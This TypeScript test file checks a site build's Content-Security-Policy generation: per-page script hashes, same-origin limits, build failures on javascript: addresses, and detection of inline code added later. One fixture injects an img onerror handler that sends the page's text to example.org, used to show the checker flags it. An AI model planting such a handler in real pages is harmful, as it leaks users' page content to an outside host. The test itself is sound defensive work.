import {test} from "node:test";
import assert from "node:assert/strict";
import {createHash} from "node:crypto";
import {readFile} from "node:fs/promises";
import {join} from "node:path";
import {headersFile, inlineCode, pagePolicy, sitePolicy, statedPolicy, uncoveredCode, withPolicy} from "../../../scripts/export/content-security-policy.js";
import {RewriteError} from "../../../scripts/prerender/static-html.js";
import {projectRoot} from "../../helpers/site.js";

const hash = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
const directive = (policy: string, name: string) => policy.split("; ").find((d) => d.startsWith(`${name} `));

const MODULE = `\nimport {define} from "./_observablehq/client.js";\ndefine({id: "1", body: () => 1});\n`;
const SIDEBAR = "document.getElementById('observablehq-sidebar-toggle').click()";
const page = (head: string, body = "") =>
  `<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>t</title>\n${head}</head>\n<body>${body}</body>\n</html>\n`;
const STORY = page(`<script type="module">${MODULE}</script>\n<script>{const a = 1;}</script>\n`, `<button onclick="${SIDEBAR}">Menu</button>`);
const EMBED = page("", "<figure>chart</figure><script>parent.postMessage('h', '*');</script>");

test("a page's policy lists the sha256 of each of its inline scripts and handlers, and no other", () => {
  const policy = pagePolicy(STORY);
  const scripts = directive(policy, "script-src")!.split(" ");
  assert.deepEqual(scripts.slice(0, 3), ["script-src", "'self'", "'wasm-unsafe-eval'"]);
  assert.deepEqual(new Set(scripts.slice(3)), new Set([hash(MODULE), hash("{const a = 1;}")]));
  const attributes = directive(policy, "script-src-attr")!.split(" ");
  assert.ok(attributes.includes("'unsafe-hashes'"));
  assert.ok(attributes.includes(hash(SIDEBAR)));
  // htl's placeholders for function-valued handlers, on pages that run Framework's client.
  assert.ok(attributes.includes(hash("::2")));
  assert.ok(!attributes.includes(hash("{const a = 1;}")));
});

test("every page may connect, load and submit only to its own origin", () => {
  for (const policy of [pagePolicy(STORY), pagePolicy(EMBED), sitePolicy()]) {
    assert.equal(directive(policy, "default-src"), "default-src 'self'");
    assert.equal(directive(policy, "connect-src"), "connect-src 'self' blob: data:");
    assert.equal(directive(policy, "img-src"), "img-src 'self' data: blob:");
    assert.equal(directive(policy, "form-action"), "form-action 'self'");
    assert.equal(directive(policy, "frame-src"), "frame-src 'self'");
    assert.equal(directive(policy, "worker-src"), "worker-src 'self' blob:");
    assert.equal(directive(policy, "object-src"), "object-src 'none'");
    // A <meta> policy cannot state it, and embeds must stay frameable.
    assert.equal(directive(policy, "frame-ancestors"), undefined);
  }
});

test("an embed page, with no Framework client and no handlers, allows no inline handler at all", () => {
  assert.equal(directive(pagePolicy(EMBED), "script-src-attr"), "script-src-attr 'none'");
});

test("the policy goes right after the charset, before any script, and covers every inline script", () => {
  const secured = withPolicy(STORY, "/story");
  const head = secured.slice(secured.indexOf("<head>"));
  assert.match(head, /^<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src /);
  assert.ok(head.indexOf("Content-Security-Policy") < head.indexOf("<script"));
  assert.equal(statedPolicy(secured), pagePolicy(STORY));
  assert.deepEqual(uncoveredCode(secured), []);
  // Nothing else of the page changed.
  assert.equal(secured.replace(/\n<meta http-equiv="Content-Security-Policy"[^>]*>/, ""), STORY);
});

test("a script changed or added after the policy was written is not covered", () => {
  const secured = withPolicy(STORY, "/story");
  const changed = uncoveredCode(secured.replace("{const a = 1;}", "{const a = 2;}"));
  assert.deepEqual(changed.map((c) => [c.kind, c.text]), [["script", "{const a = 2;}"]]);
  const added = uncoveredCode(secured.replace("</body>", `<img src="x.png" onerror="fetch('https://example.org/?' + document.body.innerText)"></body>`));
  assert.deepEqual(added.map((c) => c.kind), ["handler"]);
  assert.equal(uncoveredCode(STORY).length, 3, "without a policy nothing is covered");
});

test("a javascript: address or a second policy fails the build, naming the page", () => {
  assert.throws(() => withPolicy(page("", `<a href="javascript:void(0)">x</a>`), "/bad"), (error: Error) => error instanceof RewriteError && /^\/bad: .*<a href>.*javascript: address/.test(error.message));
  assert.throws(() => withPolicy(withPolicy(STORY, "/story"), "/story"), (error: Error) => error instanceof RewriteError && /already states/.test(error.message));
  assert.throws(() => withPolicy("<p>no head</p>".replace("<p>", "<body><p>"), "/headless"), RewriteError);
});

test("inline code is found in any script type, in attributes, and inside templates", () => {
  const html = page(`<script type="text/x-page-module">${MODULE}</script>`, `<template><div onmouseover="go()"></div></template><form action="javascript:send()"></form><script src="./a.js"></script>`);
  assert.deepEqual(inlineCode(html).map((c) => [c.kind, c.text]), [
    ["script", MODULE],
    ["handler", "go()"],
    ["address", "javascript:send()"]
  ]);
});

test("the hosts' header file and the editors' guide state the site policy the pages narrow", async () => {
  assert.match(headersFile(), new RegExp(`^/\\*\\n  Content-Security-Policy: ${sitePolicy().replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\\n$`, "m"));
  const guide = await readFile(join(projectRoot, "docs", "editors.md"), "utf8");
  assert.ok(guide.includes(`Content-Security-Policy: ${sitePolicy()}\n`), "docs/editors.md gives nginx and S3 the policy the build writes");
  // The header allows inline scripts only because every page's <meta> narrows them to its hashes.
  assert.equal(directive(sitePolicy(), "script-src"), "script-src 'self' 'wasm-unsafe-eval' 'unsafe-inline'");
});
